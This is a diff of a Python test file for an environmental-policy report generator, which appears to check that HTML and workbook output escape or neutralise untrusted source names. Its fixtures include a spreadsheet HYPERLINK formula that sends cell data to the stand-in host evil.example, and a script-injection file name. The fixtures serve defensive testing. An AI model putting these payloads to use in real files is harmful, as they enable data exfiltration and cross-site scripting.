@@ -16,43 +16,91 @@ AS_OF = date(2025, 7, 2)
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 
 
-def target(tid: str, actual: str | None, target_value: str | None = "100", status: str = "滞后",
-           unit: str = "张", kind: str = "target") -> Target:
+def target(
+    tid: str,
+    actual: str | None,
+    target_value: str | None = "100",
+    status: str = "滞后",
+    unit: str = "张",
+    kind: str = "target",
+) -> Target:
     return Target(
-        target_id=tid, kind=kind, clause="（七）", indicator_zh="环境管理体系认证证书", metric_en="EMS certificates",
-        unit_zh=unit, comparator=">=" if target_value else None,
-        target_value=Decimal(target_value) if target_value else None, baseline_value=None,
-        policy_start=date(2022, 7, 19), deadline=date(2025, 12, 31) if target_value else None,
+        target_id=tid,
+        kind=kind,
+        clause="（七）",
+        indicator_zh="环境管理体系认证证书",
+        metric_en="EMS certificates",
+        unit_zh=unit,
+        comparator=">=" if target_value else None,
+        target_value=Decimal(target_value) if target_value else None,
+        baseline_value=None,
+        policy_start=date(2022, 7, 19),
+        deadline=date(2025, 12, 31) if target_value else None,
         actual_value=Decimal(actual) if actual is not None else None,
         percent_of_target=(Decimal(actual) * 100 / Decimal(target_value)).quantize(Decimal("0.1"))
-        if actual is not None and target_value else None,
+        if actual is not None and target_value
+        else None,
         trajectory_value=Decimal("89.5") if target_value else None,
-        projected_value=Decimal("120.0") if target_value else None, progress_status=status)
+        projected_value=Decimal("120.0") if target_value else None,
+        progress_status=status,
+    )
 
 
 def data() -> ReportData:
-    targets = [target("T06", "60"), target("T04", "71.5", "75", "进度正常", unit="%"),
-               target("T11", None, "10", "未接入"), target("I01", "7", None, "监测", kind="indicator")]
-    regions = [Region("320583", "昆山市", "Kunshan", {"T06": Decimal(40), "T04": Decimal("80.1"), "T11": None,
-                                                     "I01": Decimal(7)}),
-               Region("000000", "未定位", "Not located", {"T06": Decimal(20), "T04": Decimal(0), "T11": None,
-                                                       "I01": Decimal(0)})]
+    targets = [
+        target("T06", "60"),
+        target("T04", "71.5", "75", "进度正常", unit="%"),
+        target("T11", None, "10", "未接入"),
+        target("I01", "7", None, "监测", kind="indicator"),
+    ]
+    regions = [
+        Region(
+            "320583", "昆山市", "Kunshan", {"T06": Decimal(40), "T04": Decimal("80.1"), "T11": None, "I01": Decimal(7)}
+        ),
+        Region(
+            "000000", "未定位", "Not located", {"T06": Decimal(20), "T04": Decimal(0), "T11": None, "I01": Decimal(0)}
+        ),
+    ]
     return ReportData(
-        as_of=AS_OF, published_at="2025-07-02 23:41:00+08", targets=targets, regions=regions,
+        as_of=AS_OF,
+        published_at="2025-07-02 23:41:00+08",
+        targets=targets,
+        regions=regions,
         history={"T06": [(date(2025, 6, 30), Decimal(50)), (date(2025, 7, 1), Decimal(55)), (AS_OF, Decimal(60))]},
-        batches=[{"feed": "certificates", "source_file": EVIL, "status": "accepted", "rows": 3, "reason": None,
-                  "quarantined": 1},
-                 {"feed": "green_food", "source_file": "<script>alert(1)</script>.xlsx", "status": "rejected",
-                  "rows": None, "reason": "not an XLSX", "quarantined": 0}],
+        batches=[
+            {
+                "feed": "certificates",
+                "source_file": EVIL,
+                "status": "accepted",
+                "rows": 3,
+                "reason": None,
+                "quarantined": 1,
+            },
+            {
+                "feed": "green_food",
+                "source_file": "<script>alert(1)</script>.xlsx",
+                "status": "rejected",
+                "rows": None,
+                "reason": "not an XLSX",
+                "quarantined": 0,
+            },
+        ],
         quarantine_rules=[("certificates", "cert_no", 1)],
-        mart_checks=[{"expectation": "expect_column_values_to_not_be_null", "column_name": "target_id",
-                      "success": True, "severity": "critical", "observed": "0 unexpected"}])
+        mart_checks=[
+            {
+                "expectation": "expect_column_values_to_not_be_null",
+                "column_name": "target_id",
+                "success": True,
+                "severity": "critical",
+                "observed": "0 unexpected",
+            }
+        ],
+    )
 
 
 def test_html_has_its_three_charts_and_escapes_what_the_sources_sent() -> None:
     page = html.render(data())
-    assert re.findall(r'<svg id="([a-z-]+)" class="chart"', page) == ["chart-progress", "chart-heatmap",
-                                                                       "chart-trends"]
+    assert re.findall(r'<svg id="([a-z-]+)" class="chart"', page) == ["chart-progress", "chart-heatmap", "chart-trends"]
     assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;.xlsx" in page
     assert not re.search(r'(src|href)="https?:|<link|url\(https?:', page)  # nothing to fetch: it stands alone
     assert "未接入" in page and "进度正常" in page and "71.5%" in page
@@ -75,4 +123,12 @@ def test_workbook_sheets_and_formula_text_neutralised(tmp_path) -> None:
 
 def test_safe_text() -> None:
     assert [workbook.safe_text(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "苏州", 5, None)] == [
-        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "苏州", 5, None]
+        "'=1+1",
+        "'+1",
+        "'-1",
+        "'@SUM(A1)",
+        "'\t=1",
+        "苏州",
+        5,
+        None,
+    ]
